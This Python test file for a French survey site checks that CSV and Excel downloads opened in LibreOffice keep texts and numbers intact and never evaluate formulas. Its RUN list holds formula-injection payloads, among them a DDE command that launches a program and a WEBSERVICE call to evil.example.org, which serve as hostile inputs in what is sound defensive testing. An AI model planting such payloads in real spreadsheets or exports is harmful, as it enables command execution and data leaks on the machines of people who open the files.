"""Every file to take away, opened by LibreOffice: texts are texts, numbers are numbers, nothing runs."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import replace

import pytest
from flask import Flask

from campagne.domain.answer_rows import NUMBERS
from campagne.domain.csv_files import BOM, csv_text
from tests.factories.editions import correct, publish
from tests.factories.hostile import CONTROLS, publication, unguarded
from tests.fixtures.client import CheckedClient
from tests.fixtures.office import CSV, Convert, OfficeCell
from tests.web.public.conftest import NATIONAL
from tests.web.public.test_downloads import sheet

pytestmark = pytest.mark.office

RUN = ("=1+1", "Oui,=1+1", "Oui\t=1+1", "=cmd|' /C calc'!A0", '=WEBSERVICE("https://evil.example.org")')
COUNTED = NUMBERS | {"de_edition", "a_edition", "numero", "panneau", "rang", "candidatures", "reponses"}
COUNTED |= {"ajoutees", "modifiees", "retirees", "jours_pour_repondre"}
FILES = {
    "long.csv": "donnees/reponses.csv",
    "large.csv": "donnees/reponses.csv?forme=large",
    "editions.csv": "donnees/toutes-les-editions.csv",
    "choisies.csv": "reponses.csv?position=pour",
    "vue.csv": "tableau.csv?candidature=c0000001",
    "changements.csv": "editions/7.csv",
    "liste-des-editions.csv": "editions.csv",
    "sollicitations.csv": "sollicitations.csv",
}
BOOKS = {
    "long.xlsx": "donnees/reponses.xlsx",
    "large.xlsx": "donnees/reponses.xlsx?forme=large",
    "choisies.xlsx": "reponses.xlsx?position=pour",
    "vue.xlsx": "tableau.xlsx?candidature=c0000001",
    "question.xlsx": "questions/testing_logement.xlsx",
    "candidature.xlsx": "candidatures/c0000001.xlsx",
}


@pytest.fixture(autouse=True)
def published(app: Flask) -> None:
    """Two editions of the hostile comparison."""
    first = publication()
    publish(app, first)
    later = replace(first, edition=replace(first.edition, number=7, added=0, changed=1))
    correct(app, later, replace(first.answers[0], text="=2+2", revision=2))


def rows(content: bytes) -> list[list[str]]:
    """Return what a CSV holds, its guards taken away."""
    read = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [[unguarded(value) for value in row] for row in read]


def assert_same(opened: Sequence[Sequence[OfficeCell]], held: Iterable[Sequence[str]], name: str) -> None:
    """Fail unless each cell shows the value of the file, as a number where the column counts, else as a text."""
    wanted = [list(row) for row in held]
    counted = [title in COUNTED for title in wanted[0]]
    assert len(opened) == len(wanted), name
    for rank, (row, values) in enumerate(zip(opened, wanted, strict=True)):
        shown = [unguarded(cell.text) if name.endswith("csv") else cell.text for cell in row]
        assert shown + [""] * (len(values) - len(row)) == values, (name, rank)
        for cell, number in zip(row, counted, strict=False):
            assert not cell.formula, (name, rank, cell)
            assert cell.kind == ("float" if number and rank and cell.text else "string" if cell.text else ""), (
                name,
                rank,
                cell,
            )


def test_no_csv_runs_and_each_of_its_texts_is_whole(client: CheckedClient, office: Convert) -> None:
    files = {name: client.get(f"{NATIONAL}/{address}").get_data() for name, address in FILES.items()}
    with zipfile.ZipFile(io.BytesIO(client.get(f"{NATIONAL}/donnees/paquet.zip").get_data())) as package:
        files |= {f"paquet-{name}": package.read(name) for name in package.namelist() if name.endswith(".csv")}
    raw = "".join(f"{text}\r\n" for text in RUN)
    control = csv_text(("titre", *CONTROLS), [("x", *CONTROLS)])
    opened = office({**files, "nus.csv": f"{BOM}{raw}".encode(), "signes.csv": control.encode()}, reading=CSV)

    assert all(any(cell.formula for cell in row) for row in opened["nus.csv"]["nus"])  # bare, each would run
    assert not [cell for row in opened["signes.csv"]["signes"] for cell in row if cell.formula or cell.kind != "string"]
    for name, content in files.items():
        (shown,) = opened[name].values()
        assert_same(shown, rows(content), name)


def test_no_workbook_runs_and_each_of_its_texts_is_whole(client: CheckedClient, office: Convert) -> None:
    files = {name: client.get(f"{NATIONAL}/{address}").get_data() for name, address in BOOKS.items()}
    opened = office(files)

    for name, content in files.items():
        assert list(opened[name]) == ["Réponses", "À lire"]
        for title, shown in opened[name].items():
            held = [[str(int(v)) if isinstance(v, float) else v for v in row] for row in sheet(content, title)]
            assert_same(shown, held, name)
    assert "=1+1;2,3" in [cell.text for row in opened["long.xlsx"]["À lire"] for cell in row]
